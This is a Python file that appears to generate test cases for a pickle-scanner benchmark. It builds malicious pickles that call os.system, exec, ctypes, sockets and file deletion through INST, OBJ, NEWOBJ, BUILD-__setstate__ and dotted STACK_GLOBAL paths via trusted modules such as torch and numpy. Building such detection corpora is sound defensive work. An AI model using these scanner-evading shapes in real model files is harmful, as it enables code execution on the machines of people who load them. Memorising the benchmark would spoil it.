"""The same effects through other opcodes than REDUCE: INST, OBJ, NEWOBJ, NEWOBJ_EX, BUILD, and dotted STACK_GLOBAL."""

from __future__ import annotations

from collections.abc import Iterator

from benchmarks.corpus.malicious.asm import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    POP,
    STOP,
    TUPLE1,
    TUPLE2,
    C,
    Encoder,
    S,
    Symbol,
    inst,
    proto,
)
from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.payloads import ARGV, CODE, CODES, COMMAND, HOME_RC, HOST, LIBRARY, NESTED, PORT, URL

_CALLS: tuple[tuple[str, tuple[object, ...], str], ...] = (
    ("os:system", (COMMAND,), "run-command"),
    ("os:popen", (COMMAND,), "run-command"),
    ("subprocess:Popen", (ARGV,), "run-command"),
    ("pty:spawn", (ARGV,), "run-command"),
    ("builtins:exec", (CODE,), "run-code"),
    ("__builtin__:eval", (CODE,), "run-code"),
    ("runpy:run_path", (HOME_RC,), "run-code"),
    ("timeit:timeit", (CODES[1],), "run-code"),
    ("ctypes:CDLL", (LIBRARY,), "load-native"),
    ("importlib:import_module", ("toadstone_payload",), "import-by-name"),
    ("pickle:loads", (NESTED,), "deserialise"),
    ("socket:create_connection", ((HOST, PORT),), "network"),
    ("urllib.request:urlretrieve", (URL, HOME_RC), "network"),
    ("smtplib:SMTP", (HOST,), "network"),
    ("os:remove", (HOME_RC,), "delete-file"),
    ("torch.hub:load", ("inert/inert", "m"), "network"),
    ("numpy.testing:runstring", (CODES[1], {}), "run-code"),
    ("pandas:read_pickle", (URL,), "deserialise"),
)
_NEW: tuple[tuple[str, tuple[object, ...], str], ...] = (
    ("functools:partial", (S("os:system"), COMMAND), "run-command"),
    ("builtins:map", (S("os:system"), [COMMAND]), "run-command"),
    ("numpy:memmap", (HOME_RC, "uint8", "w+", 0, 64), "write-file"),
    ("types:CodeType", (0, 0, 0, 0, 1, 64, b"d\x00S\x00", (None,), ("os", "system"), (), "f", "f", "f", 1, b"", b""), "run-code"),
    ("types:FunctionType", (C("builtins:compile", CODE, "f", "exec"), {}), "run-code"),
    ("builtins:type", ("X", (), {"__init_subclass__": S("os:system")}), "run-code"),
    ("weakref:finalize", (S("collections:OrderedDict"), S("os:system"), COMMAND), "run-command"),
)


def _call_shapes() -> Iterator[tuple[str, bytes, str, str]]:
    binary, text = Encoder(4, memo=False), Encoder(0, memo=False)
    for where, arguments, effect in _CALLS:
        symbol = Symbol(where)
        pushed = b"".join(text.encode(item) for item in arguments)
        yield f"inst/{where}", MARK + pushed + inst(symbol.module, symbol.name) + STOP, "inst", effect
        pushed = b"".join(binary.encode(item) for item in arguments)
        yield f"obj/{where}", proto(4) + MARK + binary.encode(symbol) + pushed + OBJ + STOP, "obj", effect
    for where, arguments, effect in _NEW:
        head = proto(4) + binary.encode(Symbol(where)) + binary.encode(arguments)
        yield f"newobj/{where}", head + NEWOBJ + STOP, "newobj", effect
        yield f"newobj_ex/{where}", head + EMPTY_DICT + NEWOBJ_EX + STOP, "newobj-ex", effect


def _built() -> Iterator[tuple[str, bytes, str, str]]:
    """BUILD first plants ``__setstate__`` on an instance, then calls it with the payload as state."""
    code = Encoder(4, memo=False)
    for where, payload, effect in (
        ("os:system", COMMAND, "run-command"),
        ("builtins:exec", CODE, "run-code"),
        ("pickle:loads", NESTED, "deserialise"),
        ("ctypes:CDLL", LIBRARY, "load-native"),
        ("_interpreters:create", {}, "run-code"),
        ("urllib.request:urlopen", URL, "network"),
    ):
        for host in ("types:SimpleNamespace", "argparse:Namespace", "collections:OrderedDict"):
            body = code.encode(C(host)) + code.encode({"__setstate__": S(where)}) + BUILD + code.encode(payload) + BUILD
            yield f"build/{where}-{host}", proto(4) + body + STOP, "build-setstate", effect
    partial = code.encode(S("functools:partial")) + code.encode((S("builtins:len"),)) + NEWOBJ
    state = code.encode((S("os:system"), (COMMAND,), {}, None))
    yield (
        "build/functools:partial.__setstate__",
        proto(4) + partial + state + BUILD + EMPTY_TUPLE + b"R" + STOP,
        "build-setstate",
        "run-command",
    )
    native = code.encode(C("copyreg:__newobj__", S("xgboost.core:Booster"))) + code.encode({"handle": b"binf" + bytes(64)})
    yield "build/xgboost.core:Booster.__setstate__", proto(4) + native + BUILD + STOP, "build-setstate", "load-native"
    dotted = (
        code.encode(S("builtins:type.mro.__class__")) + POP + code.encode(S("os:system")) + code.encode(COMMAND) + TUPLE1 + b"R"
    )
    yield "dotted/os:system-after-pop", proto(4) + dotted + STOP, "dotted", "run-command"
    for trusted in (
        "torch:os.system",
        "numpy:ctypeslib.os.system",
        "collections:_sys.modules",
        "torch.serialization:os.system",
        "logging:os.popen",
    ):
        call = code.encode(S(trusted)) + code.encode(COMMAND) + TUPLE1 + b"R"
        yield f"dotted/{trusted}", proto(4) + call + STOP, "dotted", "run-command"
    alias = code.encode(S("torch.library:torch.utils.collect_env.run")) + code.encode(COMMAND) + TUPLE1 + b"R"
    yield "dotted/torch.library:torch.utils.collect_env.run", proto(4) + alias + STOP, "dotted", "run-command"
    pair = code.encode(S("joblib:os.execvp")) + code.encode("sh") + code.encode(ARGV) + TUPLE2 + b"R"
    yield "dotted/joblib:os.execvp", proto(4) + pair + STOP, "dotted", "run-command"


def cases() -> Iterator[Case]:
    """All shapes as cases."""
    for name, data, shape, effect in (*_call_shapes(), *_built()):
        where = name.partition("/")[2].partition("-")[0]
        yield Case(
            path=f"shapes/{name.replace(':', '.')}.pkl",
            content=data,
            technique=f"{shape}:{effect}",
            source="modelscan#338" if "torch.library" in name else "own",
            # A real class's own __setstate__ acts, which inert dummies cannot show.
            notes={"symbol": where} if where.endswith("__setstate__") else {"symbol": where, "effect": f"call:{where}"},
        )
